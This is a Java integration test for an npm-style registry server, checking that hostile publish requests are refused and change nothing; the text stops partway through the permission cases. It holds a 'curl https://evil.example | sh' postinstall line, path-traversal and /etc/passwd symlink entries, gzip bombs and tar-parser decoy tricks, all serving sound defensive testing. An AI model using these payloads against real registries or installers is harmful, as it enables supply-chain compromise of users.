package dev.airlock.server;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.airlock.platform.json.Json;
import dev.airlock.testing.Files2;
import dev.airlock.testing.Http;
import dev.airlock.testing.Tarballs;
import dev.airlock.testing.Tarballs.Entry;
import dev.airlock.testing.TestRegistry;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.InetAddress;
import java.net.Socket;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpHeaders;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.function.Consumer;
import java.util.function.Supplier;
import java.util.stream.Stream;
import org.apache.commons.compress.archivers.tar.TarArchiveEntry;
import org.apache.commons.compress.archivers.tar.TarArchiveOutputStream;
import org.apache.commons.compress.compressors.gzip.GzipCompressorOutputStream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Hostile and malformed requests against a real server: each must be refused with the right status and a clear
 * {@code {"error": ...}}, and must leave the database, the served documents and the blob store exactly as they were.
 * The cases share one registry (with low limits) and most target fresh-pkg@1.0.0: if one is wrongly accepted, later
 * ones answer 409, so read the first failure.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class BadInputIT {
    static final String FRESH = "fresh-pkg";
    static final long MAX_BODY = 2L << 20;
    static final long MAX_TARBALL = 256L << 10;
    static final long MAX_UNPACKED = 1L << 20;
    static final int MAX_ENTRIES = 40;
    static final List<String> TABLES = List.of(
            "packages",
            "versions",
            "dist_tags",
            "packument_heads",
            "packument_versions",
            "maintainers",
            "team_packages",
            "audit_log",
            "users",
            "orgs",
            "org_members");
    static final List<String> DOCUMENTS = List.of("existing", "@acme%2flib", "@alice%2fsecret", "reuse-pkg");

    TestRegistry registry;
    Http http;
    String alice;
    String bob;

    @BeforeAll
    void start() {
        registry = TestRegistry.start(Map.of(
                "limits.maxBodyBytes", String.valueOf(MAX_BODY),
                "limits.maxTarballBytes", String.valueOf(MAX_TARBALL),
                "limits.maxUnpackedBytes", String.valueOf(MAX_UNPACKED),
                "limits.maxEntries", String.valueOf(MAX_ENTRIES)));
        http = registry.http;
        alice = registry.userWithToken("alice");
        bob = registry.userWithToken("bob");
        registry.createOrg("acme", "alice");
        published("existing", Tarballs.publishBody("existing", "1.0.0"));
        published("@acme%2flib", Tarballs.publishBody("@acme/lib", "1.0.0"));
        ObjectNode secret = Tarballs.publishBody("@alice/secret", "1.0.0");
        secret.put("access", "restricted");
        published("@alice%2fsecret", secret);
        published("reuse-pkg", Tarballs.publishBody("reuse-pkg", "1.0.0"));
        published("reuse-pkg", Tarballs.publishBody("reuse-pkg", "1.1.0"));
        Http.Response gone = http.delete("reuse-pkg/-/reuse-pkg-1.1.0.tgz/-rev/" + rev("reuse-pkg"), alice);
        assertThat(gone.status()).as(gone.body()).isEqualTo(200);
    }

    @AfterAll
    void stop() {
        registry.close();
    }

    void published(String path, ObjectNode body) {
        Http.Response r = http.put(path, alice, Json.write(body));
        assertThat(r.status()).as(r.body()).isEqualTo(201);
    }

    String rev(String path) {
        return http.get(path, alice).json().path("_rev").asText();
    }

    // ------------------------------------------------------------------ the harness

    /** One hostile request and what the server must answer. */
    record Case(String name, Supplier<Http.Response> call, int status, String message) {
        @Override
        public String toString() {
            return name;
        }
    }

    /** Everything a rejected request must leave untouched. */
    record Snapshot(
            Map<String, Long> rows, List<String> versions, Map<String, String> documents, long blobs, long tmp) {}

    Snapshot snapshot() {
        Map<String, Long> rows = new LinkedHashMap<>();
        List<String> versions = registry.airlock.db.read(tx -> {
            for (String table : TABLES) {
                // a refused attempt (a wrong password) is a security event: it is audited by design, as a failure
                String where = table.equals("audit_log") ? " WHERE outcome = 'success'" : "";
                rows.put(
                        table,
                        tx.handle()
                                .createQuery("SELECT COUNT(*) FROM " + table + where)
                                .mapTo(Long.class)
                                .one());
            }
            return tx.handle()
                    .createQuery("SELECT package || '@' || version || ':' || state || ':' || COALESCE(tarball_blob, '')"
                            + " || ':' || COALESCE(deprecated, '') FROM versions ORDER BY package, version")
                    .mapTo(String.class)
                    .list();
        });
        Map<String, String> documents = new LinkedHashMap<>();
        for (String path : DOCUMENTS) {
            Http.Response r = http.get(path, alice);
            documents.put(path, r.status() + " " + r.header("ETag") + " " + r.body());
            Http.Response tags = http.get("-/package/" + path + "/dist-tags", alice);
            documents.put(path + " dist-tags", tags.status() + " " + tags.body());
        }
        Path blobRoot = registry.dataDir.resolve("blobs");
        long tmp = Files2.countFiles(blobRoot.resolve("tmp"));
        return new Snapshot(rows, versions, documents, Files2.countFiles(blobRoot) - tmp, tmp);
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("cases")
    void refusedAndNothingChanged(Case c) {
        Snapshot before = snapshot();
        Http.Response r = c.call().get();
        assertThat(r.status()).as("status of %s: %s", c.name(), r.body()).isEqualTo(c.status());
        assertThat(r.header("Content-Type")).as("content type of %s", c.name()).startsWith("application/json");
        assertThat(r.error()).as("error of %s", c.name()).containsIgnoringCase(c.message());
        assertThat(snapshot()).as("state after %s", c.name()).isEqualTo(before);
    }

    /** The control: a correct publish is accepted and the snapshot sees it, so the cases above prove something. */
    @Test
    void aCorrectPublishIsAcceptedAndChangesTheSnapshot() {
        Snapshot before = snapshot();
        Http.Response r = http.put("control-pkg", alice, Json.write(Tarballs.publishBody("control-pkg", "1.0.0")));
        assertThat(r.status()).as(r.body()).isEqualTo(201);
        Snapshot after = snapshot();
        assertThat(after.rows().get("versions")).isEqualTo(before.rows().get("versions") + 1);
        assertThat(after.rows().get("audit_log")).isEqualTo(before.rows().get("audit_log") + 1);
        assertThat(after.blobs()).isEqualTo(before.blobs() + 1);
        assertThat(after.tmp()).isZero();
    }

    Stream<Case> cases() {
        List<Case> all = new ArrayList<>();
        all.addAll(transport());
        all.addAll(names());
        all.addAll(versions());
        all.addAll(bodyShape());
        all.addAll(integrity());
        all.addAll(manifestConfusion());
        all.addAll(tarballEntries());
        all.addAll(limits());
        all.addAll(permissions());
        all.addAll(paths());
        return all.stream();
    }

    // ------------------------------------------------------------------ builders

    Case put(String name, String path, String token, ObjectNode body, int status, String message) {
        return new Case(name, () -> http.put(path, token, Json.write(body)), status, message);
    }

    Case publish(String name, ObjectNode body, int status, String message) {
        return put(name, FRESH, alice, body, status, message);
    }

    Case call(String name, Supplier<Http.Response> call, int status, String message) {
        return new Case(name, call, status, message);
    }

    static ObjectNode fresh() {
        return Tarballs.publishBody(FRESH, "1.0.0");
    }

    static ObjectNode edit(ObjectNode body, Consumer<ObjectNode> change) {
        change.accept(body);
        return body;
    }

    static ObjectNode manifestOf(ObjectNode body) {
        return (ObjectNode) body.get("versions").elements().next();
    }

    static ObjectNode attachmentOf(ObjectNode body) {
        return (ObjectNode) body.get("_attachments").elements().next();
    }

    /** fresh-pkg@1.0.0 whose body declares {@code m} while the tarball's package.json is {@code m} after {@code change}. */
    static ObjectNode confused(Consumer<ObjectNode> change) {
        ObjectNode declared = Tarballs.manifest(FRESH, "1.0.0");
        ObjectNode inTarball = declared.deepCopy();
        change.accept(inTarball);
        return Tarballs.publishBody(declared, Tarballs.packageTgz(inTarball), "latest");
    }

    /** fresh-pkg@1.0.0 with a correct package.json followed by {@code extra} entries. */
    static ObjectNode withEntries(Entry... extra) {
        ObjectNode m = Tarballs.manifest(FRESH, "1.0.0");
        Entry[] entries = new Entry[extra.length + 1];
        entries[0] = Entry.file("package/package.json", Json.write(m));
        System.arraycopy(extra, 0, entries, 1, extra.length);
        return Tarballs.publishBody(m, Tarballs.tgz(entries), "latest");
    }

    /** fresh-pkg@1.0.0 carrying exactly these tarball bytes (hashes and length correct). */
    static ObjectNode withTarball(byte[] tgz) {
        return Tarballs.publishBody(Tarballs.manifest(FRESH, "1.0.0"), tgz, "latest");
    }

    static String packageJson() {
        return Json.write(Tarballs.manifest(FRESH, "1.0.0"));
    }

    static byte[] gzip(byte[]... members) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        for (byte[] member : members) {
            try (GzipCompressorOutputStream gz = new GzipCompressorOutputStream(out) {
                @Override
                public void close() throws IOException {
                    finish();
                }
            }) {
                gz.write(member);
            } catch (IOException e) {
                throw new UncheckedIOException(e);
            }
        }
        return out.toByteArray();
    }

    static byte[] gunzip(byte[] tgz) {
        try (var in = new org.apache.commons.compress.compressors.gzip.GzipCompressorInputStream(
                new ByteArrayInputStream(tgz))) {
            return in.readAllBytes();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** The uncompressed tar of these entries without its end-of-archive zero blocks. */
    static byte[] tarWithoutEnd(Entry... entries) {
        byte[] tar = gunzip(Tarballs.tgz(entries));
        int end = tar.length;
        while (end >= 512 && isZero(tar, end - 512, end)) {
            end -= 512;
        }
        return Arrays.copyOf(tar, end);
    }

    static boolean isZero(byte[] b, int from, int to) {
        for (int i = from; i < to; i++) {
            if (b[i] != 0) {
                return false;
            }
        }
        return true;
    }

    static byte[] concat(byte[]... parts) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        for (byte[] p : parts) {
            out.writeBytes(p);
        }
        return out.toByteArray();
    }

    /** A tgz with package.json, then {@code zeros} bytes: inside a file entry, or (afterTar) behind the tar's end. */
    static byte[] bomb(long zeros, boolean afterTar) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        byte[] chunk = new byte[1 << 16];
        try (GzipCompressorOutputStream gz = new GzipCompressorOutputStream(out)) {
            TarArchiveOutputStream tar = new TarArchiveOutputStream(gz);
            byte[] pj = packageJson().getBytes(StandardCharsets.UTF_8);
            TarArchiveEntry e = new TarArchiveEntry("package/package.json");
            e.setSize(pj.length);
            tar.putArchiveEntry(e);
            tar.write(pj);
            tar.closeArchiveEntry();
            if (!afterTar) {
                TarArchiveEntry big = new TarArchiveEntry("package/zeros.bin");
                big.setSize(zeros);
                tar.putArchiveEntry(big);
                for (long left = zeros; left > 0; left -= chunk.length) {
                    tar.write(chunk, 0, (int) Math.min(chunk.length, left));
                }
                tar.closeArchiveEntry();
            }
            tar.finish();
            if (afterTar) {
                for (long left = zeros; left > 0; left -= chunk.length) {
                    gz.write(chunk, 0, (int) Math.min(chunk.length, left));
                }
            }
        } catch (IOException ex) {
            throw new UncheckedIOException(ex);
        }
        return out.toByteArray();
    }

    static Entry link(String path, String target) {
        return new Entry(path, new byte[0], TarArchiveEntry.LF_LINK, target);
    }

    static Entry file(String path) {
        return Entry.file(path, "x");
    }

    // ------------------------------------------------------------------ the cases

    List<Case> transport() {
        byte[] valid = Json.write(fresh()).getBytes(StandardCharsets.UTF_8);
        String validJson = Json.write(fresh());
        return List.of(
                call(
                        "malformed JSON",
                        () -> http.put(FRESH, alice, "{\"name\": \"fresh-pkg\", "),
                        400,
                        "not valid JSON"),
                call(
                        "JSON with a duplicate key",
                        () -> http.put(
                                FRESH, alice, "{\"name\":\"fresh-pkg\",\"name\":\"other\"," + validJson.substring(1)),
                        400,
                        "Duplicate field"),
                call(
                        "JSON nested too deep",
                        () -> http.put(FRESH, alice, "[".repeat(200) + "]".repeat(200)),
                        400,
                        "not valid JSON"),
                call(
                        "text/plain content type",
                        () -> http.put(FRESH, alice, "text/plain", valid),
                        415,
                        "Expected a JSON body"),
                call(
                        "form content type",
                        () -> http.put(FRESH, alice, "application/x-www-form-urlencoded", valid),
                        415,
                        "Expected a JSON body"),
                call("empty body", () -> http.put(FRESH, alice, "application/json", new byte[0]), 400, "body is empty"),
                call("JSON array body", () -> http.put(FRESH, alice, "[]"), 400, "must be a JSON object"),
                call("JSON string body", () -> http.put(FRESH, alice, "\"fresh-pkg\""), 400, "must be a JSON object"),
                call(
                        "neither a publish nor a deprecation",
                        () -> http.put(FRESH, alice, "{\"name\":\"fresh-pkg\"}"),
                        400,
                        "a publish needs versions and _attachments"),
                call("unauthenticated publish", () -> http.put(FRESH, null, validJson), 401, "must be logged in"),
                call(
                        "publish with an unknown token",
                        () -> http.put(FRESH, "not-a-real-token", validJson),
                        401,
                        "token is invalid"),
                call(
                        "publish with a wrong password",
                        () -> raw(FRESH, valid, false, "Authorization", "Basic " + b64("alice:wrong")),
                        401,
                        "Incorrect username or password"),
                call(
                        "unknown authorization scheme",
                        () -> raw(FRESH, valid, false, "Authorization", "Digest abc"),
                        401,
                        "Unsupported authorization scheme"));
    }

    List<Case> names() {
        List<Case> cases = new ArrayList<>();
        String[][] names = {
            // name, path, message
            {
                "Fresh-Pkg",
                "Fresh-Pkg",
                "Fresh-Pkg contains capital letters: npm allows it only for packages that already"
                        + " exist. An administrator can allow it with ./airlock names allow Fresh-Pkg."
            },
            {"@Acme/thing", "@Acme%2fthing", "capital letters"},
            {".fresh", ".fresh", "cannot start with a period"},
            {"_fresh", "_fresh", "cannot start with a period or an underscore"},
            {"a".repeat(215), "a".repeat(215), "more than 214 characters"},
            {"@acme/" + "a".repeat(209), "@acme%2f" + "a".repeat(209), "more than 214 characters"},
            {"node_modules", "node_modules", "reserved"},
            {"favicon.ico", "favicon.ico", "reserved"},
            {
                "http",
                "http",
                "http is a Node.js core module name: npm allows it only for packages that already exist."
                        + " An administrator can allow it with ./airlock names allow http."
            },
            {"fresh pkg", "fresh%20pkg", "URL-friendly"},
            {" fresh", "%20fresh", "leading or trailing spaces"},
            {"café", "caf%C3%A9", "URL-friendly"},
            {"fresh:pkg", "fresh:pkg", "URL-friendly"},
            {"fresh!", "fresh!", "special characters"},
            {"fresh(1)", "fresh(1)", "special characters"},
            {"fresh~pkg", "fresh~pkg", "special characters"},
            {"@acme/", "@acme%2f", "must not be empty"},
            {"@/thing", "@%2fthing", "must not be empty"},
            {"@acme/a/b", "@acme%2fa%2fb", "a scoped name is @scope/name"},
            {"a/b", "a%2fb", "URL-friendly"},
        };
        for (String[] n : names) {
            cases.add(put(
                    "name "
                            + (n[0].length() > 40
                                    ? n[0].substring(0, 12) + "…(" + n[0].length() + ")"
                                    : "\"" + n[0] + "\""),
                    n[1],
                    alice,
                    Tarballs.publishBody(n[0], "1.0.0"),
                    400,
                    n[2]));
        }
        return cases;
    }

    List<Case> versions() {
        List<Case> cases = new ArrayList<>();
        for (String v : List.of(
                "v1.0.0",
                "1.0",
                "1",
                "01.0.0",
                "1.00.0",
                "1.0.0-",
                "1.0.0+",
                "1.0.0-01",
                "=1.0.0",
                " 1.0.0",
                "1.0.0.0",
                "^1.0.0",
                "latest",
                "")) {
            cases.add(publish("version \"" + v + "\"", Tarballs.publishBody(FRESH, v), 400, "strict semver"));
        }
        return cases;
    }

    List<Case> bodyShape() {
        ObjectNode twoVersions = fresh();
        ObjectNode second = Tarballs.publishBody(FRESH, "1.0.1");
        ((ObjectNode) twoVersions.get("versions"))
                .set("1.0.1", second.get("versions").get("1.0.1"));
        ((ObjectNode) twoVersions.get("_attachments"))
                .set(FRESH + "-1.0.1.tgz", second.get("_attachments").get(FRESH + "-1.0.1.tgz"));
        return List.of(
                put(
                        "body name differs from the URL",
                        FRESH,
                        alice,
                        Tarballs.publishBody("other-pkg", "1.0.0"),
                        400,
                        "does not match the URL"),
                put(
                        "scoped body name under an unscoped URL",
                        "lib",
                        alice,
                        Tarballs.publishBody("@acme/lib", "1.0.0"),
                        400,
                        "does not match the URL"),
                publish("_id differs from the name", edit(fresh(), b -> b.put("_id", "existing")), 400, "_id"),
                publish("two versions", twoVersions, 400, "exactly one version"),
                publish("no versions", edit(fresh(), b -> b.putObject("versions")), 400, "exactly one version"),
                publish(
                        "versions is not an object",
                        edit(fresh(), b -> b.put("versions", "1.0.0")),
                        400,
                        "exactly one version"),
                publish(
                        "manifest is not an object",
                        edit(fresh(), b -> b.putObject("versions").put("1.0.0", "x")),
                        400,
                        "must be an object"),
                publish(
                        "manifest version differs from its key",
                        edit(fresh(), b -> manifestOf(b).put("version", "1.0.1")),
                        400,
                        "must be fresh-pkg and 1.0.0"),
                publish(
                        "manifest name differs",
                        edit(fresh(), b -> manifestOf(b).put("name", "existing")),
                        400,
                        "must be fresh-pkg and 1.0.0"),
                publish("\"private\": true", edit(fresh(), b -> manifestOf(b).put("private", true)), 400, "private"),
                publish(
                        "empty _attachments",
                        edit(fresh(), b -> b.putObject("_attachments")),
                        400,
                        "no tarball attachment"),
                put(
                        "new version without _attachments",
                        "existing",
                        alice,
                        edit(Tarballs.publishBody("existing", "1.0.1"), b -> b.remove("_attachments")),
                        400,
                        "no tarball attachment"),
                publish(
                        "two tarball attachments",
                        edit(
                                fresh(),
                                b -> ((ObjectNode) b.get("_attachments"))
                                        .set(
                                                FRESH + "-9.9.9.tgz",
                                                attachmentOf(b).deepCopy())),
                        400,
                        "Unexpected attachment"),
                publish(
                        "attachment under the wrong name",
                        edit(fresh(), b -> b.putObject("_attachments").set("evil-1.0.0.tgz", attachmentOf(fresh()))),
                        400,
                        "Unexpected attachment"),
                publish(
                        "attachment without data",
                        edit(fresh(), b -> attachmentOf(b).remove("data")),
                        400,
                        "has no data"),
                publish(
                        "attachment length mismatch",
                        edit(fresh(), b -> attachmentOf(b).put("length", 3)),
                        400,
                        "does not match the decoded tarball size"),
                publish(
                        "attachment length missing",
                        edit(fresh(), b -> attachmentOf(b).remove("length")),
                        400,
                        "does not match the decoded tarball size"),
                publish(
                        "attachment data not base64",
                        edit(fresh(), b -> attachmentOf(b).put("data", "!!not*base64!!")),
                        400,
                        "not valid base64"),
                publish(
                        "attachment data cut short",
                        edit(fresh(), b -> attachmentOf(b).put("data", "QUJDRA=")),
                        400,
                        "not valid base64"),
                publish(
                        "attachment data a number",
                        edit(fresh(), b -> attachmentOf(b).put("data", 12)),
                        400,
                        "has no data"),
                publish(
                        "attachment data an object",
                        edit(fresh(), b -> attachmentOf(b).putObject("data")),
                        400,
                        "has no data"),
                publish(
                        "dist-tag that is a range (1.x)",
                        edit(fresh(), b -> b.putObject("dist-tags").put("1.x", "1.0.0")),
                        400,
                        "Invalid dist-tag"),
                publish(
                        "dist-tag that is a range (^1.0.0)",
                        edit(fresh(), b -> b.putObject("dist-tags").put("^1.0.0", "1.0.0")),
                        400,
                        "Invalid dist-tag"),
                publish(
                        "dist-tag that is a range (v1)",
                        edit(fresh(), b -> b.putObject("dist-tags").put("v1", "1.0.0")),
                        400,
                        "Invalid dist-tag"),
                publish(
                        "dist-tag that is a version (v1.0.0)",
                        edit(fresh(), b -> b.putObject("dist-tags").put("v1.0.0", "1.0.0")),
                        400,
                        "Invalid dist-tag"),
                publish(
                        "dist-tag x",
                        edit(fresh(), b -> b.putObject("dist-tags").put("x", "1.0.0")),
                        400,
                        "Invalid dist-tag"),
                publish(
                        "dist-tag with a slash",
                        edit(fresh(), b -> b.putObject("dist-tags").put("a/b", "1.0.0")),
                        400,
                        "Invalid dist-tag"),
                publish(
                        "two dist-tags",
                        edit(fresh(), b -> ((ObjectNode) b.get("dist-tags")).put("beta", "1.0.0")),
                        400,
                        "exactly one tag"),
                publish(
                        "dist-tag pointing elsewhere",
                        edit(fresh(), b -> b.putObject("dist-tags").put("latest", "2.0.0")),
                        400,
                        "must point at the published version"),
                publish("unknown access level", edit(fresh(), b -> b.put("access", "secret")), 400, "access must be"),
                publish(
                        "restricted unscoped package",
                        edit(fresh(), b -> b.put("access", "restricted")),
                        400,
                        "Unscoped packages cannot be restricted"));
    }

    List<Case> integrity() {
        return List.of(
                publish(
                        "integrity of other bytes",
                        edit(
                                fresh(),
                                b -> ((ObjectNode) manifestOf(b).get("dist"))
                                        .put(
                                                "integrity",
                                                manifestOf(Tarballs.publishBody("existing", "1.0.0"))
                                                        .get("dist")
                                                        .get("integrity")
                                                        .asText())),
                        422,
                        "dist.integrity does not match"),
                publish(
                        "integrity missing",
                        edit(fresh(), b -> ((ObjectNode) manifestOf(b).get("dist")).remove("integrity")),
                        422,
                        "dist.integrity does not match"),
                publish(
                        "integrity only sha1",
                        edit(
                                fresh(),
                                b -> ((ObjectNode) manifestOf(b).get("dist")).put("integrity", "sha1-" + b64("x"))),
                        422,
                        "dist.integrity does not match"),
                publish(
                        "integrity with a second, wrong sha512",
                        edit(fresh(), b -> {
                            ObjectNode dist = (ObjectNode) manifestOf(b).get("dist");
                            dist.put("integrity", dist.get("integrity").asText() + " sha512-" + b64("forged"));
                        }),
                        422,
                        "dist.integrity does not match"),
                publish(
                        "shasum mismatch",
                        edit(fresh(), b -> ((ObjectNode) manifestOf(b).get("dist")).put("shasum", "0".repeat(40))),
                        422,
                        "dist.shasum does not match"),
                publish(
                        "shasum missing",
                        edit(fresh(), b -> ((ObjectNode) manifestOf(b).get("dist")).remove("shasum")),
                        422,
                        "dist.shasum does not match"),
                publish("no dist at all", edit(fresh(), b -> manifestOf(b).remove("dist")), 422, "Integrity mismatch"));
    }

    List<Case> manifestConfusion() {
        List<Case> cases = new ArrayList<>();
        Map<String, Consumer<ObjectNode>> changes = new LinkedHashMap<>();
        changes.put("dependencies", m -> m.putObject("dependencies").put("evil", "1.0.0"));
        changes.put(
                "optionalDependencies", m -> m.putObject("optionalDependencies").put("evil", "1.0.0"));
        changes.put("peerDependencies", m -> m.putObject("peerDependencies").put("evil", "*"));
        changes.put("devDependencies", m -> m.putObject("devDependencies").put("evil", "1.0.0"));
        changes.put("bundleDependencies", m -> m.putArray("bundleDependencies").add("evil"));
        changes.put("scripts", m -> m.putObject("scripts").put("postinstall", "curl https://evil.example | sh"));
        changes.put("bin", m -> m.putObject("bin").put("ls", "./evil.js"));
        changes.put("license", m -> m.put("license", "GPL-3.0"));
        changes.put("engines", m -> m.putObject("engines").put("node", ">=99"));
        changes.put("os", m -> m.putArray("os").add("linux"));
        changes.put("cpu", m -> m.putArray("cpu").add("x64"));
        changes.put("libc", m -> m.putArray("libc").add("glibc"));
        changes.put("main", m -> m.put("main", "evil.js"));
        changes.put("exports", m -> m.put("exports", "./evil.js"));
        changes.put("type", m -> m.put("type", "module"));
        changes.put("name", m -> m.put("name", "other-pkg"));
        changes.put("version", m -> m.put("version", "6.6.6"));
        // npm publish adds a bundled name missing from dependencies to dependencies as "*": both fields then differ
        changes.forEach((field, change) -> cases.add(publish(
                "manifest confusion: " + field,
                confused(change),
                422,
                field.equals("bundleDependencies")
                        ? "disagree on dependencies, bundleDependencies"
                        : "disagree on " + field)));
        ObjectNode declared = Tarballs.manifest(FRESH, "1.0.0");
        declared.putObject("dependencies").put("left-pad", "1.0.0");
        cases.add(publish(
                "manifest confusion: dependencies dropped from the tarball",
                Tarballs.publishBody(declared, Tarballs.packageTgz(Tarballs.manifest(FRESH, "1.0.0")), "latest"),
                422,
                "disagree on dependencies"));
        cases.add(publish(
                "manifest confusion: binding.gyp implies an install script",
                withEntries(file("package/binding.gyp")),
                422,
                "disagree on scripts"));
        return cases;
    }

    List<Case> tarballEntries() {
        byte[] tar = gunzip(Tarballs.tgz(Entry.file("package/package.json", packageJson())));
        String longTraversal = "package/" + "a/".repeat(60) + "../".repeat(62) + "evil.js";
        return List.of(
                publish("absolute path entry", withEntries(file("/etc/evil")), 422, "absolute path"),
                publish("Windows drive path entry", withEntries(file("C:/evil")), 422, "absolute path"),
                publish("entry with package/../x", withEntries(file("package/../evil.js")), 422, "leaves the package"),
                publish(
                        "entry with a backslash traversal",
                        withEntries(file("package\\..\\..\\evil.js")),
                        422,
                        "leaves the package"),
                publish(
                        "traversal hidden in a PAX long name",
                        withEntries(file(longTraversal)),
                        422,
                        "leaves the package"),
                publish("entry with an empty segment", withEntries(file("package//evil.js")), 422, "malformed path"),
                publish("symlink entry", withEntries(Entry.symlink("package/link", "/etc/passwd")), 422, "link"),
                publish("hard link entry", withEntries(link("package/hard", "package/package.json")), 422, "link"),
                publish(
                        "character device entry",
                        withEntries(Entry.special("package/tty", TarArchiveEntry.LF_CHR)),
                        422,
                        "device or FIFO"),
                publish(
                        "block device entry",
                        withEntries(Entry.special("package/sda", TarArchiveEntry.LF_BLK)),
                        422,
                        "device or FIFO"),
                publish(
                        "FIFO entry",
                        withEntries(Entry.special("package/pipe", TarArchiveEntry.LF_FIFO)),
                        422,
                        "device or FIFO"),
                publish(
                        "duplicate entries",
                        withEntries(file("package/index.js"), file("package/index.js")),
                        422,
                        "more than once"),
                publish(
                        "duplicate package.json",
                        withEntries(Entry.file("package/package.json", "{}")),
                        422,
                        "more than once"),
                publish(
                        "case-colliding names",
                        withEntries(file("package/README.md"), file("package/readme.md")),
                        422,
                        "more than once"),
                publish(
                        "two top-level directories",
                        withEntries(file("other/evil.js")),
                        422,
                        "one top-level directory"),
                publish(
                        "file outside any directory",
                        withTarball(Tarballs.tgz(Entry.file("package.json", packageJson()))),
                        422,
                        "not inside the package directory"),
                publish("no package.json", withTarball(Tarballs.tgz(file("package/index.js"))), 422, "no package.json"),
                publish(
                        "package.json is not JSON",
                        withTarball(Tarballs.tgz(Entry.file("package/package.json", "{name:"))),
                        422,
                        "not valid JSON"),
                publish(
                        "package.json is an array",
                        withTarball(Tarballs.tgz(Entry.file("package/package.json", "[]"))),
                        422,
                        "not a JSON object"),
                publish(
                        "package.json with a duplicate key",
                        withTarball(Tarballs.tgz(Entry.file(
                                "package/package.json",
                                "{\"name\":\"fresh-pkg\",\"version\":\"1.0.0\",\"license\":\"MIT\",\"scripts\":{},"
                                        + "\"scripts\":{\"postinstall\":\"evil\"}}"))),
                        422,
                        "not valid JSON"),
                publish("tarball is not gzipped", withTarball(tar), 422, "not a valid gzipped tar"),
                publish("tarball is random bytes", withTarball(random(4096)), 422, "not a valid gzipped tar"),
                publish("gzip of garbage", withTarball(gzip(random(4096))), 422, "not a valid gzipped tar"),
                publish(
                        "truncated gzip",
                        withTarball(Arrays.copyOf(Tarballs.packageTgz(Tarballs.manifest(FRESH, "1.0.0")), 60)),
                        422,
                        "not a valid gzipped tar"),
                publish(
                        "second gzip member hides another package.json",
                        withTarball(gzip(
                                tarWithoutEnd(Entry.file("package/package.json", packageJson())),
                                gunzip(Tarballs.tgz(
                                        Entry.file("package/package.json", Json.write(confusedScripts())))))),
                        422,
                        "more than once"),
                publish("header with a bad checksum hides entries", withTarball(badChecksumDecoy()), 422, "checksum"),
                publish(
                        "regular file with a link name hides entries",
                        withEntries(new Entry(
                                "package/decoy.txt",
                                tarWithoutEnd(Entry.file("package/package.json", Json.write(confusedScripts()))),
                                TarArchiveEntry.LF_NORMAL,
                                "package/index.js")),
                        422,
                        "link"),
                publish(
                        "entries hidden after a single zero block",
                        withTarball(gzip(concat(
                                tarWithoutEnd(Entry.file("package/package.json", packageJson())),
                                new byte[512],
                                gunzip(Tarballs.tgz(Entry.file("package/install.js", "require('child_process')")))))),
                        422,
                        "after the end of the archive"));
    }

    /**
     * node-tar skips a header whose checksum is wrong and reads the next block as a header, so the decoy's data (a tar
     * with another package.json) would be installed while a reader that ignores checksums sees one harmless file.
     */
    static byte[] badChecksumDecoy() {
        byte[] inner = tarWithoutEnd(Entry.file("package/package.json", Json.write(confusedScripts())));
        byte[] outer = gunzip(Tarballs.tgz(
                Entry.file("package/package.json", packageJson()),
                new Entry("package/decoy.txt", inner, TarArchiveEntry.LF_NORMAL, null)));
        int decoyHeader = 512 + (packageJson().length() + 511) / 512 * 512;
        outer[decoyHeader + 153] ^= 1; // one octal digit of the checksum
        return gzip(outer);
    }

    static ObjectNode confusedScripts() {
        ObjectNode m = Tarballs.manifest(FRESH, "1.0.0");
        m.putObject("scripts").put("postinstall", "node install.js");
        return m;
    }

    List<Case> limits() {
        Entry[] many = new Entry[MAX_ENTRIES];
        for (int i = 0; i < many.length; i++) {
            many[i] = file("package/f" + i + ".js");
        }
        byte[] huge = ("{\"name\":\"fresh-pkg\",\"pad\":\"" + "x".repeat((int) MAX_BODY + 1024) + "\"}")
                .getBytes(StandardCharsets.UTF_8);
        return List.of(
                publish(
                        "gzip bomb (8 MiB of zeros in one file)",
                        withTarball(bomb(8L << 20, false)),
                        422,
                        "unpacks to more than " + MAX_UNPACKED + " bytes"),
                publish(
                        "gzip bomb behind the end of the tar",
                        withTarball(bomb(8L << 20, true)),
                        422,
                        "unpacks to more than " + MAX_UNPACKED + " bytes"),
                publish("too many entries", withEntries(many), 422, "more than " + MAX_ENTRIES + " entries"),
                publish(
                        "tarball over limits.maxTarballBytes",
                        withEntries(new Entry(
                                "package/blob.bin", random((int) MAX_TARBALL + 4096), TarArchiveEntry.LF_NORMAL, null)),
                        413,
                        "larger than this registry accepts (" + MAX_TARBALL + " bytes)"),
                call(
                        "body over limits.maxBodyBytes",
                        () -> raw(FRESH, huge, false, "Authorization", "Bearer " + alice),
                        413,
                        "larger than this registry accepts"),
                call(
                        "chunked body over limits.maxBodyBytes",
                        () -> raw(FRESH, huge, true, "Authorization", "Bearer " + alice),
                        413,
                        "larger than this registry accepts"));
    }

    List<Case> permissions() {
        return List.of(
                put(
                        "publish over an existing version",
                        "existing",
                        alice,
                        Tarballs.publishBody("existing", "1.0.0"),
                        409,
                        "cannot publish over the previously published version"),
                put(
                        "publish over an existing version with other bytes",
                        "existing",
                        alice,
                        withName("existing", "1.0.0", m -> m.put("description", "changed")),
                        409,
                        "cannot publish over the previously published version"),
                put(
                        "reuse an unpublished version number",
                        "reuse-pkg",
                        alice,
                        Tarballs.publishBody("reuse-pkg", "1.1.0"),
                        409,
                        "cannot be reused"),
                put(
                        "new version by a non-maintainer",
                        "existing",
                        bob,
                        Tarballs.publishBody("existing", "2.0.0"),
                        403,
